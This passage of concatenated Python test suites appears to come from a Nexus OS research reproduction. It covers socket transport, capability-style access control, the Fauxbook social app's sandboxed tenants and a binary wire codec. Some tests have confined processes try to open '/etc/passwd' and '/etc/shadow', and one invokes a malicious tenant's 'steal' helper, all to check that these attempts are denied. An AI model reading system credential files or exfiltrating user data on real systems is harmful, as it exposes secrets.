                                   "was orphaned without a response")
                    buffer += chunk
                message, rest = split_frame(buffer)
                assert parse_response(message).body == b"echo:late"
                assert rest == b""
                stopper.join(timeout=5.0)
                assert not stopper.is_alive()
        finally:
            gate.set()
            server.stop()

    def test_refused_reconnect_is_not_blamed_on_reuse(self):
        # Regression (this PR's bugfix): when the server vanished
        # between requests, attempt 1 failed on the reused socket and
        # attempt 2 connected *fresh* — but a refused connect inside
        # the retry was still reported as "failed twice on reused
        # connections".  The fresh/reused attribution must be decided
        # before the reconnect happens, not after.  A bare one-shot
        # listener keeps the scenario exact: serve one request, then
        # the port is gone for good.
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        host, port = listener.getsockname()

        def serve_once():
            sock, _peer = listener.accept()
            buffer = b""
            while split_frame(buffer) is None:
                buffer += sock.recv(65536)
            sock.sendall(HTTPResponse(200, b"one").to_bytes())
            sock.close()
            listener.close()

        server_thread = threading.Thread(target=serve_once)
        server_thread.start()
        conn = PersistentConnection(host, port)
        raw = HTTPRequest("POST", "/echo", {}, b"x").to_bytes()
        assert parse_response(conn.send(raw)).status == 200
        server_thread.join(timeout=5.0)
        assert not server_thread.is_alive()
        with pytest.raises(AppError) as excinfo:
            conn.send(raw)  # stale reuse fails, reconnect is refused
        assert "twice on reused" not in str(excinfo.value)
        assert "failed" in str(excinfo.value)
        conn.close()


class TestServeApiEndToEnd:
    def test_full_api_flow_over_real_sockets(self):
        service = NexusService()
        server = serve_api(service, workers=4)
        try:
            host, port = server.address
            client = NexusClient.connect(host, port)
            owner = client.open_session("owner")
            resource = owner.create_resource("/srv/obj", "file")
            owner.set_goal(resource, "read",
                           f"{owner.principal} says ok(?Subject)")
            stranger = client.open_session("stranger")
            denied = stranger.authorize("read", resource)
            assert not denied.allow
            # "write" has no goal set: the default owner policy admits
            # the owner and nobody else.
            assert owner.authorize("write", resource).allow
            assert not stranger.authorize("write", resource).allow
            # serve_api turned coalescing on.
            assert service.coalescer is not None
            assert service.coalescer.calls >= 2
            client.close()
        finally:
            server.stop()

    def test_http_transport_over_socket_equals_in_memory(self):
        service = NexusService()
        server = serve_api(service, workers=2, coalesce=False)
        try:
            host, port = server.address
            socket_client = NexusClient.connect(host, port)
            memory_client = NexusClient.over_http(service.router())
            a = socket_client.info()
            b = memory_client.info()
            assert a.version == b.version
            assert a.boot_id == b.boot_id
            socket_client.close()
        finally:
            server.stop()
