"""Smoke tests: every example script must run to completion.

Examples are documentation that executes; a broken example is a broken
claim about the public API.
"""

import runpy
import subprocess
import sys
from pathlib import Path

import pytest

EXAMPLES = sorted(
    (Path(__file__).resolve().parent.parent / "examples").glob("*.py"))


@pytest.mark.parametrize("script", EXAMPLES, ids=lambda p: p.name)
def test_example_runs(script, capsys):
    runpy.run_path(str(script), run_name="__main__")
    output = capsys.readouterr().out
    assert output.strip(), f"{script.name} produced no output"


def test_examples_exist():
    names = {path.name for path in EXAMPLES}
    assert {"quickstart.py", "fauxbook_demo.py", "movie_player.py"} <= names
    assert len(EXAMPLES) >= 3
