"""Filesystem server and network substrate tests."""

import pytest

from repro.errors import AccessDenied, KernelError, NoSuchResource
from repro.fs import FileServer
from repro.kernel import NexusKernel
from repro.nal import Assume, ProofBundle, parse, prove
from repro.net import (
    DDRM,
    HTTPRequest,
    HTTPResponse,
    NIC,
    NetDriver,
    PageTable,
    Packet,
    Router,
    UDPEchoRig,
    parse_request,
    parse_response,
)


@pytest.fixture
def rig():
    kernel = NexusKernel()
    fs = FileServer(kernel)
    return kernel, fs


class TestFileServer:
    def test_create_write_read(self, rig):
        kernel, fs = rig
        proc = kernel.create_process("app")
        fd = kernel.syscall(proc.pid, "open", "/dir/file")
        assert kernel.syscall(proc.pid, "write", fd, b"hello") == 5
        kernel.syscall(proc.pid, "close", fd)
        fd = kernel.syscall(proc.pid, "open", "/dir/file")
        assert kernel.syscall(proc.pid, "read", fd, 5) == b"hello"

    def test_creation_deposits_ownership_label(self, rig):
        kernel, fs = rig
        proc = kernel.create_process("app")
        kernel.syscall(proc.pid, "open", "/dir/file")
        expected = parse(f"FS says {proc.path} speaksfor FS./dir/file")
        assert kernel.labels.holds(expected)

    def test_default_policy_blocks_strangers(self, rig):
        kernel, fs = rig
        owner = kernel.create_process("owner")
        stranger = kernel.create_process("stranger")
        fd = kernel.syscall(owner.pid, "open", "/private")
        kernel.syscall(owner.pid, "write", fd, b"secret")
        with pytest.raises(AccessDenied):
            kernel.syscall(stranger.pid, "open", "/private")

    def test_goal_formula_grants_access(self, rig):
        kernel, fs = rig
        owner = kernel.create_process("owner")
        reader = kernel.create_process("reader")
        fd = kernel.syscall(owner.pid, "open", "/shared")
        kernel.syscall(owner.pid, "write", fd, b"data")
        resource_id = fs.resource_id("/shared")
        kernel.sys_setgoal(owner.pid, resource_id, "open",
                           f"{owner.path} says mayOpen(?Subject)")
        kernel.sys_setgoal(owner.pid, resource_id, "read",
                           f"{owner.path} says mayOpen(?Subject)")
        cred = kernel.sys_say(owner.pid, f"mayOpen({reader.path})").formula
        goal = parse(f"{owner.path} says mayOpen({reader.path})")
        bundle = ProofBundle(prove(goal, [cred]), credentials=(cred,))
        fd = kernel.syscall(reader.pid, "open", "/shared", bundle)
        assert kernel.syscall(reader.pid, "read", fd, 4, bundle) == b"data"

    def test_unlink(self, rig):
        kernel, fs = rig
        proc = kernel.create_process("app")
        kernel.syscall(proc.pid, "open", "/tmp/x")
        kernel.syscall(proc.pid, "unlink", "/tmp/x")
        assert not fs.exists("/tmp/x")

    def test_bad_fd(self, rig):
        kernel, fs = rig
        proc = kernel.create_process("app")
        with pytest.raises(KernelError):
            kernel.syscall(proc.pid, "read", 99, 1)

    def test_write_extends_file(self, rig):
        kernel, fs = rig
        proc = kernel.create_process("app")
        fd = kernel.syscall(proc.pid, "open", "/f")
        kernel.syscall(proc.pid, "write", fd, b"abc")
        kernel.syscall(proc.pid, "write", fd, b"def")
        assert fs.raw_read("/f") == b"abcdef"

    def test_raw_io(self, rig):
        kernel, fs = rig
        fs.raw_write("/boot/config", b"x=1")
        assert fs.raw_read("/boot/config") == b"x=1"
        with pytest.raises(NoSuchResource):
            fs.raw_read("/boot/missing")


class TestPagesAndNIC:
    def test_dma_delivery(self):
        pages = PageTable()
        nic = NIC(pages)
        page = pages.alloc("driver", grant_owner_access=False)
        pages.grant(page, NIC.DMA_SUBJECT, {"read", "write"})
        nic.dma_setup(page)
        nic.wire_deliver(Packet(payload=b"ping"))
        event = nic.raise_interrupt()
        assert event == (page, 4)
        assert pages.read(NIC.DMA_SUBJECT, page, 4) == b"ping"

    def test_driver_cannot_read_its_pages(self):
        pages = PageTable()
        page = pages.alloc("driver", grant_owner_access=False)
        with pytest.raises(AccessDenied):
            pages.read("driver", page, 10)
        with pytest.raises(AccessDenied):
            pages.write("driver", page, b"x")

    def test_idle_interrupt_is_none(self):
        pages = PageTable()
        nic = NIC(pages)
        assert nic.raise_interrupt() is None

    def test_transmit_page(self):
        pages = PageTable()
        nic = NIC(pages)
        page = pages.alloc("app")
        pages.write("app", page, b"pong")
        pages.grant(page, NIC.DMA_SUBJECT, {"read"})
        nic.transmit_page(page, 4)
        assert nic.tx_log[-1].payload == b"pong"


class TestDriverConfinement:
    def test_ddrm_blocks_file_syscalls(self):
        kernel = NexusKernel()
        FileServer(kernel)
        pages = PageTable()
        nic = NIC(pages)
        app = kernel.create_process("app")
        port = kernel.create_port(app.pid, "app")
        driver = NetDriver(kernel, nic, pages, app_port_id=port.port_id,
                           confined=True)
        # Driver ops work under the DDRM...
        driver.prepare_rx_page()
        # ...but the forbidden world does not.
        with pytest.raises(AccessDenied):
            kernel.syscall(driver.process.pid, "open", "/etc/passwd")
        assert driver.ddrm.denials == 1

    def test_driver_never_touches_payload(self):
        kernel = NexusKernel()
        pages = PageTable()
        nic = NIC(pages)
        app = kernel.create_process("app")
        port = kernel.create_port(app.pid, "app")
        driver = NetDriver(kernel, nic, pages, app_port_id=port.port_id,
                           confined=True)
        page = driver.prepare_rx_page()
        nic.wire_deliver(Packet(payload=b"secret-cookie"))
        driver.pump_one()
        with pytest.raises(AccessDenied):
            driver.try_read_page(page, 13)
        # The app, by contrast, was granted access by the handover.
        assert pages.read("app", page, 13) == b"secret-cookie"

    def test_confinement_labels_issued(self):
        kernel = NexusKernel()
        pages = PageTable()
        nic = NIC(pages)
        app = kernel.create_process("app")
        port = kernel.create_port(app.pid, "app")
        driver = NetDriver(kernel, nic, pages, app_port_id=port.port_id,
                           confined=True)
        labels = driver.ddrm.confinement_labels(kernel)
        expected = parse(
            f"DDRM says noPageAccess(/proc/ipd/{driver.process.pid})")
        assert expected in labels
        assert kernel.labels.holds(expected)


class TestUDPEchoRig:
    @pytest.mark.parametrize("config", ["kern-int", "user-int", "kern-drv",
                                        "user-drv", "kref", "uref"])
    def test_all_configs_echo(self, config):
        rig = UDPEchoRig(config)
        assert rig.echo_one(b"hello?") == b"hello?"
        assert rig.echo_one(b"again!") == b"again!"

    def test_monitored_config_checks_policy(self):
        rig = UDPEchoRig("kref")
        rig.echo_one(b"x" * 100)
        assert rig.monitor.checks > 0

    def test_cache_reduces_guard_upcalls(self):
        cached = UDPEchoRig("kref", cache_enabled=True)
        cached.echo_many(20, 100)
        uncached = UDPEchoRig("kref", cache_enabled=False)
        uncached.echo_many(20, 100)
        assert (uncached.kernel.default_guard.upcalls
                > cached.kernel.default_guard.upcalls)

    def test_unknown_config_rejected(self):
        with pytest.raises(ValueError):
            UDPEchoRig("quantum-driver")


class TestHTTP:
    def test_request_roundtrip(self):
        request = HTTPRequest("POST", "/status", {"Host": "fauxbook"},
                              b"hello world")
        parsed = parse_request(request.to_bytes())
        assert parsed.method == "POST"
        assert parsed.path == "/status"
        assert parsed.headers["Host"] == "fauxbook"
        assert parsed.body == b"hello world"

    def test_response_roundtrip(self):
        response = HTTPResponse(200, b"payload", {"X-K": "v"})
        parsed = parse_response(response.to_bytes())
        assert parsed.status == 200
        assert parsed.body == b"payload"

    def test_router_longest_prefix(self):
        router = Router()
        router.add("GET", "/", lambda r: HTTPResponse(200, b"root"))
        router.add("GET", "/api", lambda r: HTTPResponse(200, b"api"))
        assert router.dispatch(HTTPRequest("GET", "/api/x")).body == b"api"
        assert router.dispatch(HTTPRequest("GET", "/other")).body == b"root"

    def test_router_404_for_unknown_path(self):
        router = Router()
        router.add("POST", "/only-post", lambda r: HTTPResponse(200))
        assert router.dispatch(HTTPRequest("GET", "/elsewhere")).status == 404

    def test_router_405_for_wrong_method(self):
        router = Router()
        router.add("POST", "/only-post", lambda r: HTTPResponse(200))
        router.add("PUT", "/only-post", lambda r: HTTPResponse(200))
        response = router.dispatch(HTTPRequest("GET", "/only-post"))
        assert response.status == 405
        assert response.headers["Allow"] == "POST, PUT"

    def test_malformed_request(self):
        from repro.errors import AppError
        with pytest.raises(AppError):
            parse_request(b"garbage")
