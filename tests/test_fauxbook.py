"""Fauxbook tests: cobuf confinement, the social pipeline, the stack."""

import pytest

from repro.apps.fauxbook import (
    Cobuf,
    CobufSpace,
    DeclassifyToken,
    EVIL_TENANT_SOURCE,
    FAUXBOOK_TENANT_SOURCE,
    FauxbookStack,
    ILLEGAL_TENANT_SOURCE,
    ResourceAttestor,
    SocialGraph,
    WebFramework,
)
from repro.errors import AppError, CobufError, SandboxViolation
from repro.kernel import NexusKernel
from repro.nal import parse


def space_with(edges=(), users=("alice", "bob", "carol")):
    graph = SocialGraph()
    for user in users:
        graph.add_user(user)
    for a, b in edges:
        graph.add_edge(a, b)
    return CobufSpace(speaks_for=graph.speaks_for), graph


class TestCobufs:
    def test_contents_not_inspectable(self):
        space, _ = space_with()
        cobuf = space.tag(b"secret", "alice")
        with pytest.raises(CobufError):
            _ = cobuf.data
        with pytest.raises(CobufError):
            bytes(cobuf)
        with pytest.raises(CobufError):
            cobuf[0]
        with pytest.raises(CobufError):
            list(cobuf)

    def test_length_and_slice_are_permitted(self):
        space, _ = space_with()
        cobuf = space.tag(b"0123456789", "alice")
        assert len(cobuf) == 10
        part = cobuf.slice(2, 5)
        assert len(part) == 3
        assert part.owner == "alice"

    def test_concat_same_owner(self):
        space, _ = space_with()
        a = space.tag(b"aa", "alice")
        b = space.tag(b"bb", "alice")
        assert len(a.concat(b)) == 4

    def test_concat_across_owners_rejected(self):
        space, _ = space_with()
        a = space.tag(b"aa", "alice")
        b = space.tag(b"bb", "bob")
        with pytest.raises(CobufError):
            a.concat(b)

    def test_collate_requires_speaksfor(self):
        space, _ = space_with(edges=[("alice", "bob")])
        bobs = space.tag(b"bob-data", "bob")
        merged = space.collate("alice", [bobs])  # friends: allowed
        assert merged.owner == "alice"
        carols = space.tag(b"carol-data", "carol")
        with pytest.raises(CobufError):
            space.collate("alice", [carols])  # not friends: refused

    def test_equality_does_not_leak_content(self):
        space, _ = space_with()
        a = space.tag(b"same", "alice")
        b = space.tag(b"same", "alice")
        assert a != b  # identity, not content

    def test_reveal_requires_real_token(self):
        space, _ = space_with()
        cobuf = space.tag(b"secret", "alice")
        with pytest.raises(CobufError):
            cobuf.reveal("forged-token")
        assert cobuf.reveal(DeclassifyToken()) == b"secret"

    def test_store_retrieve(self):
        space, _ = space_with()
        cobuf = space.tag(b"x", "alice")
        space.store("k", cobuf)
        assert space.retrieve("k") is cobuf
        with pytest.raises(CobufError):
            space.retrieve("missing")
        with pytest.raises(CobufError):
            space.store("bad", b"raw bytes")


class TestSocialGraph:
    def test_edges_symmetric(self):
        _, graph = space_with(edges=[("alice", "bob")])
        assert graph.friends("alice", "bob")
        assert graph.friends("bob", "alice")

    def test_self_edge_rejected(self):
        _, graph = space_with()
        with pytest.raises(AppError):
            graph.add_edge("alice", "alice")

    def test_unknown_user_rejected(self):
        _, graph = space_with()
        with pytest.raises(AppError):
            graph.add_edge("alice", "mallory")

    def test_speaks_for_self_and_friends_only(self):
        _, graph = space_with(edges=[("alice", "bob")])
        assert graph.speaks_for("alice", "alice")
        assert graph.speaks_for("alice", "bob")
        assert not graph.speaks_for("alice", "carol")


class TestWebFramework:
    def _framework(self):
        fw = WebFramework(tenant_source=FAUXBOOK_TENANT_SOURCE)
        fw.create_user("alice", "pw-a")
        fw.create_user("bob", "pw-b")
        return fw

    def test_signup_login_logout(self):
        fw = self._framework()
        token = fw.login("alice", "pw-a")
        assert fw.session_user(token) == "alice"
        fw.logout(token)
        with pytest.raises(AppError):
            fw.session_user(token)

    def test_wrong_password(self):
        fw = self._framework()
        with pytest.raises(AppError):
            fw.login("alice", "wrong")

    def test_duplicate_user(self):
        fw = self._framework()
        with pytest.raises(AppError):
            fw.create_user("alice", "again")

    def test_post_and_read_own_wall(self):
        fw = self._framework()
        token = fw.login("alice", "pw-a")
        fw.post_status(token, b"hello world")
        page = fw.read_feed(token, "alice")
        assert b"hello world" in page

    def test_friend_can_read_wall(self):
        fw = self._framework()
        alice = fw.login("alice", "pw-a")
        bob = fw.login("bob", "pw-b")
        fw.add_friend(alice, "bob")
        fw.post_status(alice, b"alice-post")
        page = fw.read_feed(bob, "alice")
        assert b"alice-post" in page

    def test_stranger_cannot_read_wall(self):
        fw = self._framework()
        fw.create_user("carol", "pw-c")
        alice = fw.login("alice", "pw-a")
        carol = fw.login("carol", "pw-c")
        fw.post_status(alice, b"private-ish")
        with pytest.raises(CobufError):
            fw.read_feed(carol, "alice")

    def test_evil_tenant_cannot_read_contents(self):
        """The malicious tenant stores and collates fine, but its
        exfiltration helper dies inside the cobuf layer."""
        fw = WebFramework(tenant_source=EVIL_TENANT_SOURCE)
        fw.create_user("alice", "pw")
        token = fw.login("alice", "pw")
        fw.post_status(token, b"secret-status")
        with pytest.raises(CobufError):
            fw.tenant_call("steal", "alice")

    def test_illegal_tenant_rejected_at_load(self):
        with pytest.raises(SandboxViolation):
            WebFramework(tenant_source=ILLEGAL_TENANT_SOURCE)

    def test_tenant_data_independent_ops_work(self):
        fw = self._framework()
        token = fw.login("alice", "pw-a")
        fw.post_status(token, b"one")
        fw.post_status(token, b"two")
        assert fw.tenant_call("wall_size", "alice") == 2

    def test_session_authority(self):
        fw = self._framework()
        fw.login("alice", "pw-a")
        assert fw.session_authority.decides(
            parse('name.webserver says user = "alice"'))
        assert not fw.session_authority.decides(
            parse('name.webserver says user = "bob"'))

    def test_friend_authority(self):
        fw = self._framework()
        alice = fw.login("alice", "pw-a")
        fw.add_friend(alice, "bob")
        assert fw.friend_authority.decides(
            parse("name.python says alice in bob.friends"))
        assert not fw.friend_authority.decides(
            parse("name.python says carol in bob.friends"))


class TestFauxbookStack:
    def test_signup_post_read_over_http(self):
        stack = FauxbookStack()
        assert stack.request("POST", "/signup", body=b"alice:pw").status == 201
        token = stack.request("POST", "/login", body=b"alice:pw").body.decode()
        response = stack.request("POST", "/status",
                                 headers={"X-Session": token},
                                 body=b"first post!")
        assert response.status == 201
        page = stack.request("GET", "/wall/alice",
                             headers={"X-Session": token})
        assert page.status == 200
        assert b"first post!" in page.body

    def test_friend_flow_over_http(self):
        stack = FauxbookStack()
        stack.request("POST", "/signup", body=b"alice:pw")
        stack.request("POST", "/signup", body=b"bob:pw")
        alice = stack.request("POST", "/login", body=b"alice:pw").body.decode()
        bob = stack.request("POST", "/login", body=b"bob:pw").body.decode()
        stack.request("POST", "/friend", headers={"X-Session": alice},
                      body=b"bob")
        stack.request("POST", "/status", headers={"X-Session": alice},
                      body=b"for friends")
        page = stack.request("GET", "/wall/alice", headers={"X-Session": bob})
        assert page.status == 200
        assert b"for friends" in page.body

    def test_stranger_gets_403_over_http(self):
        stack = FauxbookStack()
        stack.request("POST", "/signup", body=b"alice:pw")
        stack.request("POST", "/signup", body=b"carol:pw")
        alice = stack.request("POST", "/login", body=b"alice:pw").body.decode()
        carol = stack.request("POST", "/login", body=b"carol:pw").body.decode()
        stack.request("POST", "/status", headers={"X-Session": alice},
                      body=b"not for carol")
        page = stack.request("GET", "/wall/alice",
                             headers={"X-Session": carol})
        assert page.status == 403

    @pytest.mark.parametrize("storage", ["none", "hash", "decrypt"])
    def test_static_serving_all_storage_modes(self, storage):
        stack = FauxbookStack(storage=storage)
        stack.put_file("/index.html", b"<h1>faux</h1>")
        response = stack.request("GET", "/static/index.html")
        assert response.status == 200
        assert response.body == b"<h1>faux</h1>"

    @pytest.mark.parametrize("access", ["none", "static", "dynamic"])
    def test_static_serving_all_access_modes(self, access):
        stack = FauxbookStack(access_control=access)
        stack.put_file("/page.html", b"content")
        response = stack.request("GET", "/static/page.html")
        assert response.status == 200
        assert response.body == b"content"

    @pytest.mark.parametrize("monitor", ["kernel", "user"])
    def test_reference_monitored_serving(self, monitor):
        stack = FauxbookStack(ref_monitor=monitor)
        stack.put_file("/m.html", b"watched")
        response = stack.request("GET", "/static/m.html")
        assert response.status == 200
        assert stack.policy_monitor.checks > 0

    def test_dynamic_python_row(self):
        stack = FauxbookStack()
        stack.put_file("/d.html", b"inner")
        response = stack.request("GET", "/python/d.html")
        assert response.status == 200
        assert b"<html><body>inner</body></html>" == response.body

    def test_missing_static_file_404(self):
        stack = FauxbookStack()
        assert stack.request("GET", "/static/ghost.html").status == 404

    def test_webserver_locked_down_after_init(self):
        stack = FauxbookStack()
        from repro.errors import AccessDenied
        with pytest.raises(AccessDenied):
            stack.kernel.syscall(stack.server.pid, "open", "/etc/shadow")
        assert "open" in stack.lockdown_monitor.denied_calls

    def test_encrypted_storage_not_plaintext_on_disk(self):
        stack = FauxbookStack(storage="decrypt")
        stack.put_file("/s.html", b"SENSITIVE-BYTES-HERE!")
        on_disk = b"".join(stack.kernel.disk.read_file(name)
                           for name in stack.kernel.disk.list_files()
                           if name.startswith("/ssr/"))
        assert b"SENSITIVE-BYTES-HERE!" not in on_disk


class TestResourceAttestation:
    def test_certify_reservation(self):
        kernel = NexusKernel()
        kernel.scheduler.add_client("fauxbook", tickets=300)
        kernel.scheduler.add_client("other-tenant", tickets=100)
        attestor = ResourceAttestor(kernel)
        label = attestor.certify_reservation("fauxbook", min_fraction=0.70)
        assert label == parse(
            f"{attestor.process.path} says reservedFraction(fauxbook, 75)")

    def test_refuses_undersized_reservation(self):
        kernel = NexusKernel()
        kernel.scheduler.add_client("fauxbook", tickets=100)
        kernel.scheduler.add_client("other-tenant", tickets=300)
        attestor = ResourceAttestor(kernel)
        assert attestor.certify_reservation("fauxbook", 0.5) is None

    def test_delivery_matches_reservation(self):
        kernel = NexusKernel()
        kernel.scheduler.add_client("fauxbook", tickets=300)
        kernel.scheduler.add_client("other-tenant", tickets=100)
        attestor = ResourceAttestor(kernel)
        assert attestor.verify_delivery("fauxbook")
