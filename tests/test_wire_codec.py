"""The binary wire codec and its negotiation with the JSON wire.

Three layers under test:

* the **value codec** (`repro.net.codec`) — a deterministic tagged
  encoding of the same JSON-safe envelope trees canonical JSON
  carries, with loud failures for anything mis-framed;
* the **envelope fast path** (`repro.api.messages`) — frame-level
  encode/decode with memoization that must never change decoded
  results;
* the **negotiation matrix** over real sockets — a JSON client against
  a binary-capable server, a binary client against a JSON-only server,
  and mid-connection garbage in each framing, all ending in the same
  stable ``E_*`` taxonomy / HTTP status behaviour.

The differential harness (`tests/harness.py`) separately holds the
http-binary world to byte-identical decoded documents across whole
scenarios; the tests here pin the mechanics those guarantees rest on.
"""

import socket
import struct

import pytest

from repro.api import NexusClient, NexusService, messages as msg
from repro.api.errors import ApiError, E_BAD_REQUEST, E_NO_SUCH_SESSION
from repro.errors import AppError
from repro.net import codec as binwire
from repro.net.http import HTTPRequest, parse_response
from repro.net.server import SocketServer, serve_api


class TestValueCodec:
    CASES = [
        None, True, False, 0, -1, 7, 2**63 - 1, -(2**63),
        2**80, -(2**90),  # beyond i64: decimal bigint spelling
        0.0, -1.5, 3.141592653589793,
        "", "hello", "ünïcødé ✓", "a" * 10_000,
        b"", b"\x00\xffraw", bytearray(b"ba"),
        [], [1, "two", None, [3.5, True]],
        {}, {"k": "v"}, {"nested": {"list": [1, {"deep": None}]}},
    ]

    def test_round_trips_everything_json_can_say(self):
        for value in self.CASES:
            encoded = binwire.encode_value(value)
            decoded = binwire.decode_value(encoded)
            if isinstance(value, bytearray):
                assert decoded == bytes(value)
            elif isinstance(value, tuple):
                assert decoded == list(value)
            else:
                assert decoded == value
                assert type(decoded) is type(value) or isinstance(
                    value, bool)

    def test_encoding_is_deterministic_with_sorted_keys(self):
        a = binwire.encode_value({"b": 1, "a": 2, "c": 3})
        b = binwire.encode_value({"c": 3, "a": 2, "b": 1})
        assert a == b  # one tree, one spelling — memos rely on this

    def test_tuple_spells_like_list(self):
        assert (binwire.encode_value((1, 2))
                == binwire.encode_value([1, 2]))

    def test_non_string_map_keys_are_rejected(self):
        with pytest.raises(AppError, match="keys must be str"):
            binwire.encode_value({1: "x"})

    def test_unencodable_types_are_rejected(self):
        with pytest.raises(AppError, match="unencodable"):
            binwire.encode_value(object())

    def test_trailing_bytes_are_rejected(self):
        encoded = binwire.encode_value(42)
        with pytest.raises(AppError, match="trailing"):
            binwire.decode_value(encoded + b"X")

    def test_unknown_tag_is_loud(self):
        with pytest.raises(AppError, match="unknown tag"):
            binwire.decode_value(b"Z")

    def test_truncations_are_loud_at_every_cut(self):
        encoded = binwire.encode_value(
            {"s": "text", "n": [1, 2.5, None], "big": 2**70})
        for cut in range(len(encoded)):
            with pytest.raises(AppError):
                binwire.decode_value(encoded[:cut])

    def test_list_count_bomb_is_rejected(self):
        # A tiny payload claiming four billion items must fail before
        # allocating anything.
        bomb = b"L" + struct.pack("<I", 2**32 - 1)
        with pytest.raises(AppError, match="count exceeds"):
            binwire.decode_value(bomb)


class TestFraming:
    def test_frame_round_trip(self):
        payload = binwire.encode_value({"x": 1})
        raw = binwire.frame(payload)
        assert raw.startswith(binwire.MAGIC)
        assert binwire.frame_length(raw) == len(raw)
        assert binwire.frame_payload(raw) == payload

    def test_incomplete_frames_return_none(self):
        raw = binwire.frame(binwire.encode_value([1, 2, 3]))
        for cut in (1, 4, binwire.HEADER_BYTES, len(raw) - 1):
            assert binwire.frame_length(raw[:cut]) is None
            assert binwire.split_frame(raw[:cut]) is None

    def test_pipelined_frames_split_cleanly(self):
        first = binwire.frame(binwire.encode_value("one"))
        second = binwire.frame(binwire.encode_value("two"))
        payload, rest = binwire.split_frame(first + second)
        assert payload == binwire.encode_value("one")
        assert rest == second

    def test_bad_magic_is_loud_even_on_partial_buffers(self):
        with pytest.raises(binwire.BinaryFramingError, match="magic"):
            binwire.frame_length(b"NXWOOPS")
        with pytest.raises(binwire.BinaryFramingError, match="magic"):
            binwire.frame_length(b"XY")

    def test_oversized_declared_length_is_loud(self):
        huge = binwire.MAGIC + struct.pack(
            "<I", binwire.MAX_FRAME_BYTES + 1)
        with pytest.raises(binwire.BinaryFramingError, match="cap"):
            binwire.frame_length(huge)

    def test_frame_payload_rejects_trailing_garbage(self):
        raw = binwire.frame(b"ok")
        with pytest.raises(binwire.BinaryFramingError, match="trailing"):
            binwire.frame_payload(raw + b"!")

    def test_sniff_decides_on_four_bytes(self):
        assert binwire.sniff(b"") is None
        assert binwire.sniff(b"N") is None      # could become the magic
        assert binwire.sniff(b"NXW") is None
        assert binwire.sniff(b"NXW1") == "binary"
        assert binwire.sniff(b"POST /x") == "http"
        assert binwire.sniff(b"G") == "http"    # can't become NXW1
        assert binwire.sniff(b"HTTP/1.1 200") == "http"


class TestEnvelopeFastPath:
    def test_request_frame_decodes_to_equal_request(self):
        request = msg.AuthorizeRequest(
            session="tok", operation="read", resource=7, proof=None,
            wallet=False)
        raw = msg.encode_request_frame(request)
        decoded = msg.decode_request_binary(binwire.frame_payload(raw))
        assert decoded.to_dict() == request.to_dict()
        # The memoized hot path returns identical bytes.
        assert msg.encode_request_frame(request) == raw

    def test_response_frame_decodes_to_equal_response(self):
        response = msg.AuthorizeResponse(
            verdict=msg.Verdict(allow=True, cacheable=True,
                                reason="allow"))
        raw = msg.encode_response_frame(response)
        decoded = msg.decode_response_binary(binwire.frame_payload(raw))
        assert decoded.to_dict() == response.to_dict()

    def test_decode_rejects_non_envelope_payloads(self):
        with pytest.raises(ApiError) as excinfo:
            msg.decode_request_binary(binwire.encode_value([1, 2]))
        assert excinfo.value.code == E_BAD_REQUEST

    def test_error_response_rides_binary_frames(self):
        from repro.api.errors import bad_request
        response = msg.ErrorResponse.from_error(bad_request("nope"))
        raw = msg.encode_response_frame(response)
        decoded = msg.decode_response_binary(binwire.frame_payload(raw))
        assert isinstance(decoded, msg.ErrorResponse)
        assert decoded.code == E_BAD_REQUEST


def _drive_session(client):
    """One allow + one deny + one error, returned as a document."""
    session = client.open_session("owner")
    resource = session.create_resource("/codec/obj")
    session.set_goal(resource, "read",
                     f"{session.principal} says ok(?Subject)")
    allowed = session.authorize("write", resource)   # owner default
    denied = session.authorize("read", resource)     # no proof
    try:
        client.call(msg.SessionStatsRequest(session="bogus"),
                    msg.SessionStatsResponse)
        error_code = None
    except ApiError as exc:
        error_code = exc.code
    return {"allow": (allowed.allow, allowed.reason),
            "deny": (denied.allow, denied.reason),
            "error": error_code}


class TestNegotiationMatrix:
    def test_binary_client_upgrades_on_binary_server(self):
        service = NexusService()
        server = serve_api(service, workers=2, coalesce=False)
        try:
            host, port = server.address
            json_doc = _drive_session(
                NexusClient.connect(host, port, codec="json"))
            served_before = server.binary_served
            assert served_before == 0  # JSON client never offered
            binary_doc = _drive_session(
                NexusClient.connect(host, port, codec="binary"))
            assert binary_doc == json_doc
            assert server.binary_served > served_before
        finally:
            server.stop()

    def test_binary_client_falls_back_on_json_only_server(self):
        # A server that never enabled the binary codec: the offer
        # header is ignored, no ack comes back, and the client keeps
        # speaking canonical JSON — same verdicts, zero binary frames.
        service = NexusService()
        server = SocketServer(service.router(), workers=2)
        assert server.binary is None
        host, port = server.start()
        try:
            doc = _drive_session(
                NexusClient.connect(host, port, codec="binary"))
            assert doc["allow"][0] is True
            assert doc["deny"][0] is False
            assert doc["error"] == E_NO_SUCH_SESSION
            assert server.binary_served == 0
        finally:
            server.stop()

    def test_error_codes_match_across_codecs(self):
        service = NexusService()
        json_doc = _drive_session(NexusClient.over_http(service))
        binary_doc = _drive_session(
            NexusClient.over_binary(NexusService()))
        assert json_doc["error"] == binary_doc["error"] \
            == E_NO_SUCH_SESSION

    def test_garbage_in_http_framing_gets_400_and_close(self):
        service = NexusService()
        server = serve_api(service, workers=1, coalesce=False)
        try:
            host, port = server.address
            with socket.create_connection((host, port)) as sock:
                sock.sendall(b"POST /x HTTP/1.1\r\n"
                             b"Content-Length: zz\r\n\r\n")
                response = parse_response(sock.recv(65536))
                assert response.status == 400
                assert sock.recv(65536) == b""  # hung up
        finally:
            server.stop()

    def test_garbage_after_binary_magic_gets_error_frame_and_close(self):
        service = NexusService()
        server = serve_api(service, workers=1, coalesce=False)
        try:
            host, port = server.address
            with socket.create_connection((host, port)) as sock:
                # Valid magic, absurd declared length: framing is dead.
                sock.sendall(binwire.MAGIC
                             + struct.pack("<I",
                                           binwire.MAX_FRAME_BYTES + 9))
                raw = sock.recv(65536)
                payload = binwire.frame_payload(raw)
                decoded = msg.decode_response_binary(payload)
                assert isinstance(decoded, msg.ErrorResponse)
                assert decoded.code == E_BAD_REQUEST
                assert sock.recv(65536) == b""  # hung up
        finally:
            server.stop()

    def test_undecodable_binary_payload_keeps_connection(self):
        # A well-framed frame whose payload is not an envelope: the
        # stream still aligns, so the server answers the stable error
        # and keeps serving the connection.
        service = NexusService()
        server = serve_api(service, workers=1, coalesce=False)
        try:
            host, port = server.address
            with socket.create_connection((host, port)) as sock:
                sock.sendall(binwire.frame(binwire.encode_value("junk")))
                buffer = b""
                while binwire.frame_length(buffer) is None:
                    chunk = sock.recv(65536)
                    assert chunk
                    buffer += chunk
                decoded = msg.decode_response_binary(
